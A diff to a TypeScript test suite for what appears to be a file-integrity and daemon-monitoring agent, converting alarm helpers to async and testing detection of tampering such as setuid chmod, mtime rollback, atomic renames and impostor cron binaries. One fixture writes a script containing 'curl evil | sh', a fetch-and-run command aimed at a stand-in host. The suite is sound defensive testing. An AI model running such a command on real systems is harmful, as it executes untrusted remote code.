@@ -104,7 +104,7 @@ after(async () => {
 function baselineRows(): number {
   const c = server.ctx();
   try {
-    return (c.db.prepare('SELECT COUNT(*) n FROM measured WHERE host = ? AND baseline IS NOT NULL').get(HOST) as { n: number }).n;
+    return (c.db!.prepare('SELECT COUNT(*) n FROM measured WHERE host = ? AND baseline IS NOT NULL').get(HOST) as { n: number }).n;
   } finally {
     c.close();
   }
@@ -113,7 +113,7 @@ function baselineRows(): number {
 function fileRow(path: string, col: 'baseline' | 'current'): { mtime: string; sha256?: string; size?: number } | undefined {
   const c = server.ctx();
   try {
-    const r = c.db.prepare(`SELECT ${col} AS v FROM measured WHERE host = ? AND kind = 'file' AND key = ?`).get(HOST, path) as { v: string | null } | undefined;
+    const r = c.db!.prepare(`SELECT ${col} AS v FROM measured WHERE host = ? AND kind = 'file' AND key = ?`).get(HOST, path) as { v: string | null } | undefined;
     return r?.v ? JSON.parse(r.v) : undefined;
   } finally {
     c.close();
@@ -125,24 +125,24 @@ const baselineFile = (p: string) => fileRow(p, 'baseline');
 function daemonStatus(name: string): string | undefined {
   const c = server.ctx();
   try {
-    const r = c.db.prepare("SELECT current FROM measured WHERE host = ? AND kind = 'daemon' AND key = ?").get(HOST, name) as { current: string } | undefined;
+    const r = c.db!.prepare("SELECT current FROM measured WHERE host = ? AND kind = 'daemon' AND key = ?").get(HOST, name) as { current: string } | undefined;
     return r ? (JSON.parse(r.current) as { status: string }).status : undefined;
   } finally {
     c.close();
   }
 }
 
-const alarm = (kind: string, subject: string) => openAlarms(server, HOST).find((a) => a.kind === kind && a.subject === subject);
+const alarm = async (kind: string, subject: string) => (await openAlarms(server, HOST)).find((a) => a.kind === kind && a.subject === subject);
 
 async function expectAlarm(kind: string, subject: string) {
   return waitFor(() => alarm(kind, subject), { timeoutMs: 10_000, what: `${kind} on ${subject}` });
 }
 
-function accept(...paths: string[]): void {
+async function accept(...paths: string[]): Promise<void> {
   const r = serverCli(['accept', HOST, ...paths, '--dir', server.dir]);
   assert.equal(r.code, 0, r.stderr);
   for (const p of paths) {
-    const left = openAlarms(server, HOST).filter((a) => a.subject === p);
+    const left = (await openAlarms(server, HOST)).filter((a) => a.subject === p);
     assert.deepEqual(
       left.map((a) => a.kind),
       [],
@@ -162,7 +162,7 @@ test('a write to a guarded file opens file-changed (warning) with old and new va
   const ch = (a.detail as { changes: Changes }).changes;
   assert.ok(ch.sha256 && ch.size, 'hash and size changed');
   assert.equal(ch.size!.old, 'write original\n'.length);
-  accept(p);
+  await accept(p);
 });
 
 test('truncating and rewriting to the same size is seen by the hash', async () => {
@@ -182,8 +182,8 @@ test('truncating and rewriting to the same size is seen by the hash', async () =
     },
     { what: 'the rewritten content reported' },
   );
-  assert.ok(alarm('file-changed', p), 'still open');
-  accept(p);
+  assert.ok(await alarm('file-changed', p), 'still open');
+  await accept(p);
 });
 
 test('chmod opens file-changed on mode', async () => {
@@ -191,7 +191,7 @@ test('chmod opens file-changed on mode', async () => {
   chmodSync(p, 0o4755);
   const a = await expectAlarm('file-changed', p);
   assert.ok(changes(a).includes('mode'));
-  accept(p);
+  await accept(p);
 });
 
 test('chown opens file-changed on uid and gid', { skip: process.getuid?.() !== 0 && 'chown needs root' }, async () => {
@@ -199,7 +199,7 @@ test('chown opens file-changed on uid and gid', { skip: process.getuid?.() !== 0
   chownSync(p, 4321, 4321);
   const a = await expectAlarm('file-changed', p);
   assert.ok(changes(a).includes('uid') && changes(a).includes('gid'));
-  accept(p);
+  await accept(p);
 });
 
 test('new content with the mtime put back by touch -r is still seen (hash, ctime), and stays open', async () => {
@@ -221,8 +221,8 @@ test('new content with the mtime put back by touch -r is still seen (hash, ctime
     { what: 'the restored mtime reported' },
   );
   assert.notEqual(currentFile(p)!.sha256, baselineFile(p)!.sha256);
-  assert.ok(alarm('file-changed', p), 'still open');
-  accept(p);
+  assert.ok(await alarm('file-changed', p), 'still open');
+  await accept(p);
 });
 
 test('an atomic rename over a single guarded file is seen through its parent directory (critical)', async () => {
@@ -232,7 +232,7 @@ test('an atomic rename over a single guarded file is seen through its parent dir
   const a = await expectAlarm('file-changed', F);
   assert.equal(a.severity, 'critical');
   assert.ok(changes(a).includes('ino') && changes(a).includes('sha256'));
-  accept(F);
+  await accept(F);
 });
 
 test('delete opens file-missing; accept takes the removal into the baseline', async () => {
@@ -240,7 +240,7 @@ test('delete opens file-missing; accept takes the removal into the baseline', as
   rmSync(p);
   const a = await expectAlarm('file-missing', p);
   assert.ok((a.detail as { old: unknown }).old, 'the old values are kept');
-  accept(p);
+  await accept(p);
 });
 
 test('a hard link opens file-changed on the link count', async () => {
@@ -248,7 +248,7 @@ test('a hard link opens file-changed on the link count', async () => {
   linkSync(p, join(root, 'link.elsewhere'));
   const a = await expectAlarm('file-changed', p);
   assert.ok(changes(a).includes('nlink'));
-  accept(p);
+  await accept(p);
 });
 
 test('replacing a file inside a watched subdirectory is seen', async () => {
@@ -257,7 +257,7 @@ test('replacing a file inside a watched subdirectory is seen', async () => {
   writeFileSync(tmp, 'inner replaced\n');
   renameSync(tmp, p);
   await expectAlarm('file-changed', p);
-  accept(p);
+  await accept(p);
 });
 
 test('a new file in a watched directory opens file-added', async () => {
@@ -265,7 +265,7 @@ test('a new file in a watched directory opens file-added', async () => {
   writeFileSync(p, '#!/bin/sh\ncurl evil | sh\n');
   const a = await expectAlarm('file-added', p);
   assert.equal((a.detail as { new: { type: string } }).new.type, 'file');
-  accept(p);
+  await accept(p);
 });
 
 test("a change to the agent's own config opens agent-tampered", async () => {
@@ -273,7 +273,7 @@ test("a change to the agent's own config opens agent-tampered", async () => {
   await expectAlarm('agent-tampered', agent.config);
   const fc = await expectAlarm('file-changed', agent.config);
   assert.equal(fc.severity, 'critical');
-  accept(agent.config);
+  await accept(agent.config);
 });
 
 test('after accept, the same file changing again opens a new alarm against the new baseline', async () => {
@@ -281,7 +281,7 @@ test('after accept, the same file changing again opens a new alarm against the n
   appendFileSync(p, 'and another\n');
   const a = await expectAlarm('file-changed', p);
   assert.equal((a.detail as { changes: Changes }).changes.size!.old, 'write original\none more line\n'.length);
-  accept(p);
+  await accept(p);
 });
 
 test('a change made while the agent is stopped is found at its next start', async () => {
@@ -293,7 +293,7 @@ test('a change made while the agent is stopped is found at its next start', asyn
   proc = runAgent(agent);
   await expectAlarm('file-changed', p);
   void mark;
-  accept(p);
+  await accept(p);
 });
 
 test('check --json on the agent host finds nothing against what the agent last reported, then the next change', async () => {
@@ -307,7 +307,7 @@ test('check --json on the agent host finds nothing against what the agent last r
   assert.equal(r.code, 1);
   assert.ok((JSON.parse(r.stdout) as { findings: { kind: string; subject: string }[] }).findings.some((f) => f.kind === 'file-changed' && f.subject === p));
   await expectAlarm('file-changed', p);
-  accept(p);
+  await accept(p);
 });
 
 test('the agent reports its state digest and the server agrees with it (no report requests in steady state)', async () => {
@@ -319,7 +319,7 @@ test('the agent reports its state digest and the server agrees with it (no repor
 
 test('a real cron is up; killing it opens daemon-down; a `cron` from another binary opens daemon-exe-mismatch', { skip: cronSkip || false }, async () => {
   await waitFor(() => daemonStatus('cron') === 'up', { what: 'cron up' });
-  assert.equal(alarm('daemon-down', 'cron'), undefined);
+  assert.equal(await alarm('daemon-down', 'cron'), undefined);
   await stopChild(cron);
   cron = null;
   await expectAlarm('daemon-down', 'cron');
@@ -330,20 +330,20 @@ test('a real cron is up; killing it opens daemon-down; a `cron` from another bin
   try {
     const a = await expectAlarm('daemon-exe-mismatch', 'cron');
     assert.deepEqual((a.detail as { found: string[] }).found, [fake]);
-    await waitFor(() => !alarm('daemon-down', 'cron'), { what: 'daemon-down resolved while a cron process exists' });
+    await waitFor(async () => !(await alarm('daemon-down', 'cron')), { what: 'daemon-down resolved while a cron process exists' });
   } finally {
     await stopChild(impostor);
   }
   cron = startCron();
-  await waitFor(() => !alarm('daemon-exe-mismatch', 'cron') && !alarm('daemon-down', 'cron'), { what: 'cron alarms resolved' });
+  await waitFor(async () => !(await alarm('daemon-exe-mismatch', 'cron')) && !(await alarm('daemon-down', 'cron')), { what: 'cron alarms resolved' });
 });
 
 test('a read-only mount remounted read-write opens mount-writable until it is read-only again', async (t) => {
   if (!M) return t.skip(mountSkip);
-  assert.equal(alarm('mount-writable', M), undefined);
+  assert.equal(await alarm('mount-writable', M), undefined);
   execFileSync('mount', ['-o', 'remount,rw', M]);
   const a = await expectAlarm('mount-writable', M);
   assert.equal((a.detail as { state: string }).state, 'rw');
   execFileSync('mount', ['-o', 'remount,ro', M]);
-  await waitFor(() => !alarm('mount-writable', M!), { what: 'mount-writable resolved' });
+  await waitFor(async () => !(await alarm('mount-writable', M!)), { what: 'mount-writable resolved' });
 });
